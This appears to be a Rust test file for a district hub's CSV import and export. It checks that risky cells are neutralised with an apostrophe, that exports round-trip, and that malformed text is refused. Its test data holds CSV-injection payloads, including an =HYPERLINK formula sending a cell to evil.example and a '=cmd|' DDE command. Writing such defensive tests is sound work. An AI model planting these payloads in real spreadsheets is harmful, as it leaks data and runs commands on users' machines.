//! The district's spreadsheets (issue 14, finding 8). District staff open the exported
//! CSV files in Excel or WPS: no exported cell may be a formula, and an export must
//! import back to the same data. Malformed text — control characters, a lone CR, an
//! unterminated quote — is refused whole, with its `file:line`, and nothing is written.

// The exported text is read with the plain csv crate, as a spreadsheet would read it,
// not through the module under test (clippy.toml refuses the crate's reader elsewhere).
#![allow(clippy::disallowed_types)]

use anxin_tests::TestHub;
use serde_json::{json, Value};

/// A household address that would open a link (and send the neighbouring cell) from
/// Excel, as it is written in a CSV file.
const HYPERLINK_CSV: &str = r#""=HYPERLINK(""http://evil.example/?""&A1,""click"")""#;
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A sheet with a value beginning with each character a spreadsheet takes for a formula,
/// in every kind of column: names, addresses, vendors, phone numbers, a number.
fn dangerous_sheet() -> Value {
    json!({"files": {
        "villages.csv": "id,town_id,name\nv-x,t-1,=1+1\n",
        "households.csv": format!(
            "id,village_id,address\nh-eq,v-x,{HYPERLINK_CSV}\nh-plus,v-x,+1 Lane\n\
             h-minus,v-x,-1 Lane\nh-at,v-x,@SUM(1)\nh-wide,v-x,＝1+1\n\
             h-typed,v-x,'=typed with Excel's text mark\nh-apos,v-x,'s-Hertogenbosch\n"
        ),
        "elders.csv": "id,household_id,name,phone\ne-x,h-eq,-2+3,+8613800000000\n",
        "devices.csv": "id,household_id,kind,vendor\nx-door,h-eq,door,=cmd|' /c calc'!A1\n",
        "contacts.csv": "id,name,phone,role,scope,priority\n\
                         c-x,@Li,+8613800000001,village,village:v-x,-5\n",
    }})
}

fn file<'a>(export: &'a Value, name: &str) -> &'a str {
    export["files"][name].as_str().expect("exported file")
}

/// Every cell of every exported file: none may begin with a formula character (or with
/// whitespace or a control character, which some spreadsheets strip first).
fn assert_no_formula_cells(export: &Value) {
    for (name, text) in export["files"].as_object().expect("files") {
        let text = text.as_str().expect("text");
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        for rec in rdr.records() {
            for cell in rec.expect("record").iter() {
                let first = cell.chars().next();
                assert!(
                    !first.is_some_and(|c| "=+-@＝＋－＠".contains(c)
                        || c.is_whitespace()
                        || c.is_control()),
                    "{name}: a cell begins with {first:?}"
                );
            }
        }
    }
}

#[tokio::test]
async fn an_export_has_no_formula_cells_and_imports_back_to_the_same_data() {
    let hub = TestHub::spawn().await;
    let api = hub.api();
    let (s, body) = api
        .post("demo-district", "/api/admin/import", dangerous_sheet())
        .await;
    assert_eq!(s, 200, "{body}");
    // Other ways in take text as it is: a vendor with a TAB, CR LF or space in front
    // (some spreadsheets strip those and then see the formula).
    for (id, vendor) in [
        ("x-tab", "\t=1+1"),
        ("x-crlf", "\r\n@SUM(1)"),
        ("x-space", " =1+1"),
    ] {
        let (s, body) = api
            .post(
                "demo-district",
                "/api/devices",
                json!({"id": id, "household_id": "h-plus", "kind": "door", "vendor": vendor}),
            )
            .await;
        assert_eq!(s, 201, "{body}");
    }

    let (s, export) = api.get("demo-district", "/api/admin/export").await;
    assert_eq!(s, 200, "{export}");
    // The exact bytes: one apostrophe in front of each risky cell, nothing else changed.
    for (name, line) in [
        ("villages.csv", "v-x,t-1,'=1+1\n".to_owned()),
        (
            "households.csv",
            format!("h-eq,v-x,\"'{}\n", &HYPERLINK_CSV[1..]),
        ),
        ("households.csv", "h-plus,v-x,'+1 Lane\n".into()),
        ("households.csv", "h-minus,v-x,'-1 Lane\n".into()),
        ("households.csv", "h-at,v-x,'@SUM(1)\n".into()),
        ("households.csv", "h-wide,v-x,'＝1+1\n".into()),
        (
            "households.csv",
            "h-typed,v-x,'=typed with Excel's text mark\n".into(),
        ),
        ("households.csv", "h-apos,v-x,'s-Hertogenbosch\n".into()),
        ("elders.csv", "e-x,h-eq,'-2+3,'+8613800000000\n".into()),
        (
            "devices.csv",
            "x-door,h-eq,door,'=cmd|' /c calc'!A1,\n".into(),
        ),
        ("devices.csv", "x-tab,h-plus,door,'\t=1+1,\n".into()),
        (
            "devices.csv",
            "x-crlf,h-plus,door,\"'\r\n@SUM(1)\",\n".into(),
        ),
        ("devices.csv", "x-space,h-plus,door,' =1+1,\n".into()),
        (
            "contacts.csv",
            "c-x,'@Li,'+8613800000001,village,village:v-x,'-5,,,,\n".into(),
        ),
        // Harmless cells are written as they were.
        ("households.csv", "h-1,v-1,1 Demo Lane\n".into()),
    ] {
        let text = file(&export, name);
        assert!(text.contains(&line), "{name} lacks {line:?}:\n{text}");
    }
    assert_no_formula_cells(&export);

    // Importing the export changes nothing: the stored values are the originals (the
    // apostrophe typed before "=typed…" was Excel's text mark and is gone), and a
    // second export is byte for byte the first.
    let (s, body) = api
        .post(
            "demo-district",
            "/api/admin/import",
            json!({"files": export["files"].clone()}),
        )
        .await;
    assert_eq!(s, 200, "{body}");
    let stored = hub.app.store.export().await.expect("export");
    let address = |id: &str| {
        stored
            .households
            .iter()
            .find(|h| h.id == id)
            .map(|h| h.address.clone())
    };
    assert_eq!(address("h-eq").as_deref(), Some(HYPERLINK));
    assert_eq!(address("h-minus").as_deref(), Some("-1 Lane"));
    assert_eq!(
        address("h-typed").as_deref(),
        Some("=typed with Excel's text mark")
    );
    assert_eq!(address("h-apos").as_deref(), Some("'s-Hertogenbosch"));
    let vendor = |id: &str| {
        stored
            .devices
            .iter()
            .find(|d| d.id == id)
            .and_then(|d| d.vendor.clone())
    };
    assert_eq!(vendor("x-tab").as_deref(), Some("\t=1+1"));
    assert_eq!(vendor("x-crlf").as_deref(), Some("\r\n@SUM(1)"));
    assert_eq!(vendor("x-space").as_deref(), Some(" =1+1"));
    let elder = stored.elders.iter().find(|e| e.id == "e-x").expect("elder");
    assert_eq!(
        (elder.name.as_str(), elder.phone.as_deref()),
        ("-2+3", Some("+8613800000000"))
    );
    let contact = stored
        .contacts
        .iter()
        .find(|c| c.id == "c-x")
        .expect("contact");
    assert_eq!((contact.name.as_str(), contact.priority), ("@Li", Some(-5)));
    let (_, again) = api.get("demo-district", "/api/admin/export").await;
    assert_eq!(again, export, "export → import → export is the same");
}

/// `hub admin export` writes the same neutralised files, and `hub admin import` reads
/// them back to the same data.
#[test]
fn the_export_command_writes_neutralised_files_that_import_back() {
    let dir = tempfile::tempdir().expect("tempdir");
    let url = format!("sqlite://{}", dir.path().join("sheets.db").display());
    let hub = |args: &[&str]| {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_hub-under-test"))
            .args(args)
            .env("HUB_DATABASE_URL", &url)
            .output()
            .expect("run hub");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        o
    };
    let sheet = dir.path().join("sheet");
    std::fs::create_dir(&sheet).expect("mkdir");
    std::fs::write(sheet.join("towns.csv"), "id,name\nt-1,@Town\n").expect("write");
    for (name, text) in dangerous_sheet()["files"].as_object().expect("files") {
        std::fs::write(sheet.join(name), text.as_str().expect("text")).expect("write");
    }
    let path = |p: &std::path::Path| p.to_str().expect("utf-8 path").to_owned();
    hub(&["admin", "import", "--dir", &path(&sheet)]);
    let (first, second) = (dir.path().join("first"), dir.path().join("second"));
    hub(&["admin", "export", "--dir", &path(&first)]);
    let read = |d: &std::path::Path, f: &str| std::fs::read_to_string(d.join(f)).expect(f);
    assert_eq!(read(&first, "towns.csv"), "id,name\nt-1,'@Town\n");
    assert_eq!(
        read(&first, "households.csv"),
        format!(
            "id,village_id,address\nh-apos,v-x,'s-Hertogenbosch\nh-at,v-x,'@SUM(1)\n\
             h-eq,v-x,\"'{}\nh-minus,v-x,'-1 Lane\nh-plus,v-x,'+1 Lane\n\
             h-typed,v-x,'=typed with Excel's text mark\nh-wide,v-x,'＝1+1\n",
            &HYPERLINK_CSV[1..]
        )
    );
    assert_eq!(
        read(&first, "elders.csv"),
        "id,household_id,name,phone\ne-x,h-eq,'-2+3,'+8613800000000\n"
    );
    // The export imports back: nothing new, nothing generated, and exporting again
    // gives the same files.
    let o = hub(&["admin", "import", "--dir", &path(&first)]);
    assert!(
        o.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    hub(&["admin", "export", "--dir", &path(&second)]);
    for f in [
        "towns.csv",
        "villages.csv",
        "households.csv",
        "elders.csv",
        "devices.csv",
        "contacts.csv",
    ] {
        assert_eq!(read(&first, f), read(&second, f), "{f} round-trips");
    }
}

#[tokio::test]
async fn malformed_text_is_refused_whole_with_its_file_and_line() {
    let hub = TestHub::spawn().await;
    let api = hub.api();
    let (_, before) = api.get("demo-district", "/api/admin/export").await;
    for (households, needle, reason) in [
        (
            "id,village_id,address\nh-8,v-new,8 Lane\nh-9,v-new,Wang\0Secret Lane\n",
            "households.csv:3: column \"address\": a control character (U+0000)",
            "control_character",
        ),
        (
            "id,village_id,address\nh-8,v-new,8 Lane\nh-9,v-new,\"Wang\rSecret Lane\"\n",
            "households.csv:3: column \"address\": a carriage return (CR) without a line feed",
            "lone_carriage_return",
        ),
        (
            // Old Mac line ends: the CR alone ends line 2.
            "id,village_id,address\nh-8,v-new,8 Lane\rh-9,v-new,9 Lane\n",
            "households.csv:2: a carriage return (CR) without a line feed",
            "lone_carriage_return",
        ),
        (
            "id,village_id,address\nh-8,v-new,8 Lane\nh-9,v-new,\"Wang Secret Lane\nh-10,v-new,10 Lane\n",
            "households.csv:3: column \"address\": a quoted cell is not closed",
            "unterminated_quote",
        ),
    ] {
        let series = format!("anxin_import_malformed_total{{reason=\"{reason}\"}}");
        let counted = anxin_tests::metric(&hub.http, &series).await;
        // A valid village in the same import: all or nothing.
        let sheet = json!({"files": {
            "villages.csv": "id,town_id,name\nv-new,t-1,New Village\n",
            "households.csv": households,
        }});
        let (s, body) = api.post("demo-district", "/api/admin/import", sheet).await;
        assert_eq!(s, 400, "{body}");
        let err = body["error"].as_str().unwrap_or_default();
        assert!(err.contains(needle), "{needle:?} in {err}");
        assert!(!err.contains("Secret"), "the cell is never quoted: {err}");
        assert!(
            anxin_tests::metric(&hub.http, &series).await > counted,
            "{series} counts the refusal"
        );
        let (_, after) = api.get("demo-district", "/api/admin/export").await;
        assert_eq!(after, before, "nothing imported");
    }
}
